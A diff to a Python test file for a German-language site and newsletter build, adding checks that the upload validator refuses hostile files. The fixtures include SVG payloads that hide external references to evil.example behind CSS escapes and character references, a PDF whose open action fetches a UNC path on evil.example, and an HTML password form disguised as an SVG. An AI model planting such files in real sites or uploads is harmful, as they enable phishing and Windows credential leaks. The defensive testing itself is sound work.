@@ -142,6 +142,11 @@ def write_svg(content: Path, name: str, inner: str) -> None:
      "Animation, die „href“ setzt"),
     ("<rect style=\"fill:red;background-image:image-set('https://evil.example/a.png' 1x)\"/>",
      "externen Verweis im Stil"),
+    # CSS escapes and character references spell the same words; HTML inside an SVG is rendered.
+    ('<rect style="fill:u\\72l(https://evil.example/x.svg#p)"/>', "externen Verweis im Stil"),
+    ("<style>@imp&#111;rt 'https://evil.example/x.css';</style>", "externen Verweis im Stil"),
+    ('<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://evil.example/"/>',
+     "HTML-Elemente"),
 ])
 def test_an_svg_upload_with_script_or_external_references_is_refused(inner: str, words: str, tmp_path: Path,
                                                                      good_content: Path) -> None:
@@ -273,7 +278,8 @@ def test_an_editorial_says_what_cannot_work_in_an_email_at_its_line(tmp_path: Pa
     (folder / "2026-11-20.md").write_text(
         '---\nsubject: "Hallo\\r\\nBcc: alle@example.org"\npreheader: "Kurz\\u202e"\n---\n\n'
         "Mehr im [Impressum](/impressum/).\n\n![Logo]({static}/images/treffen.svg)\n\n"
-        "Schreiben Sie uns: [E-Mail](mailto:redaktion@example.org), [Website](https://www.wuerzburg.de/).\n",
+        "Schreiben Sie uns: [E-Mail](mailto:redaktion@example.org), [Website](https://www.wuerzburg.de/).\n"
+        "\n[Datenschutz][ds] gilt.\n\n[ds]: /datenschutz/\n",
         encoding="utf-8")
     with environment(None, tmp_path):
         result = build(Path(__file__).resolve().parent.parent / "pelicanconf.py", tmp_path / "output",
@@ -286,12 +292,14 @@ def test_an_editorial_says_what_cannot_work_in_an_email_at_its_line(tmp_path: Pa
         f"{folder / '2026-11-20.md'}:3: Feld „preheader“ enthält ein unsichtbares Steuerzeichen U+202E",
         f"{folder / '2026-11-20.md'}:6: Link „/impressum/“ führt in einer E-Mail ins Leere",
         f"{folder / '2026-11-20.md'}:8: Dateiverweise ({{static}}, {{filename}}) gehen im Newsletter nicht",
+        f"{folder / '2026-11-20.md'}:14: Link „/datenschutz/“ führt in einer E-Mail ins Leere",
     ], result.problems
 
 
 def test_a_pdf_upload_that_acts_on_its_own_is_refused(tmp_path: Path, good_content: Path) -> None:
     from pypdf import PdfWriter
     from pypdf.actions import JavaScript
+    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
 
     images = good_content / "images"
     plain = PdfWriter()
@@ -305,8 +313,28 @@ def test_a_pdf_upload_that_acts_on_its_own_is_refused(tmp_path: Path, good_conte
     attached.add_blank_page(200, 200)
     attached.add_attachment("rechnung.exe", b"MZ")
     attached.write(images / "anhang.pdf")
+    # Opened, it would fetch a file from another host (\\host\share: Windows sends credentials).
+    remote = PdfWriter()
+    remote.add_blank_page(200, 200)
+    remote._root_object[NameObject("/OpenAction")] = remote._add_object(DictionaryObject({
+        NameObject("/S"): NameObject("/GoToR"), NameObject("/F"): TextStringObject(r"\\evil.example\s\x.pdf"),
+        NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")])}))
+    remote.write(images / "verweis.pdf")
     run = run_build(tmp_path, good_content, tmp_path / "output")
     rows = [row for row in run.stderr.splitlines() if row.startswith("content/images/")]
-    assert run.code == 1 and len(rows) == 2, run.stderr
+    assert run.code == 1 and len(rows) == 3, run.stderr
+    assert "content/images/verweis.pdf:1: PDF enthält einen Sprung in eine andere Datei" in run.stderr
     assert "content/images/formular.pdf:1: PDF enthält JavaScript" in run.stderr
     assert "content/images/anhang.pdf:1: PDF enthält eingebettete Dateien" in run.stderr
+
+
+def test_an_html_page_saved_as_svg_is_refused(tmp_path: Path, good_content: Path) -> None:
+    # Served from the site's own address it would be a phishing form or an open redirect.
+    (good_content / "images" / "anmeldung.svg").write_text(
+        '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="refresh" '
+        'content="1;url=https://evil.example/"/></head><body><form action="https://evil.example/">'
+        '<input type="password" name="pw"/></form></body></html>', encoding="utf-8")
+    run = run_build(tmp_path, good_content, tmp_path / "output")
+    rows = [row for row in run.stderr.splitlines() if row.startswith("content/images/anmeldung.svg:1: ")]
+    assert run.code == 1 and len(rows) == 1, run.stderr
+    assert "keine Grafik, sondern ein Dokument mit <html>" in rows[0]
